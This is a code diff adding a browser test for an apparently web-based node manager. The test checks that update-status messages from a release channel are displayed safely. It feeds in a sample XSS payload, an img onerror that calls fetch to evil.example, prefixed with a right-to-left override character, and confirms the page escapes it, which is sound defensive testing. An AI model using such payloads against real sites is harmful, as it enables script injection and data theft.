@@ -1,5 +1,5 @@
 import type { ApiServer } from "@spore/api"
-import { shortId } from "@spore/api/client"
+import { shortId, type UpdateStatus } from "@spore/api/client"
 import { addProfile, buildFixture, type FakeNode, fakePeer } from "@spore/fixture"
 import { until } from "@spore/testkit"
 import type { BrowserContextOptions, Page } from "playwright-core"
@@ -282,6 +282,41 @@ describeInBrowser("pages", (stage) => {
     await page.getByText("3 of at most 128 nodes").waitFor()
     const text = await page.locator("main").textContent()
     for (const absent of ["Sandbox", "Reruns due", "Output"]) expect(text).not.toContain(absent)
+    expect(watch.problems).toEqual([])
+  })
+
+  it("says which release is out and what becomes of it, whatever a channel says", async () => {
+    const { node } = await buildFixture({ experiments: 2 })
+    const HOSTILE = '\u202e<img src=x onerror="fetch(`http://evil.example`)">'
+    const idle: UpdateStatus = {
+      automatic: true,
+      why_not: null,
+      channel: "https://channel.example/",
+      doing: "downloading",
+      newest: { version: "1.4.0", released: 1000, standing: "newer", reason: null },
+      trial: null,
+      looked_at: 2000,
+      reached_at: 2000,
+      next_look_at: 3000,
+      stale: false,
+      problem: null,
+    }
+    let update = idle
+    const server = await stage.serve(node, 0, { update: async () => update })
+    const { page, watch } = await stage.open(server)
+    await page.goto(`${server.url}/network`)
+    const row = page.locator("dt", { hasText: "Updates" }).locator("xpath=following-sibling::dd[1]")
+    await row.getByText("1.4.0 is out, downloading it").waitFor()
+    // Asked for again by the page itself.
+    update = { ...idle, doing: "idle", problem: { code: "update_failed", message: HOSTILE, next: null } }
+    await row.getByText("onerror").waitFor()
+    expect(await row.textContent()).not.toContain("\u202e")
+    update = {
+      ...idle,
+      doing: "idle",
+      newest: { version: "1.4.0", released: 1000, standing: "refused", reason: HOSTILE },
+    }
+    await row.getByText("is out and not taken").waitFor()
     expect(watch.problems).toEqual([])
   })
 
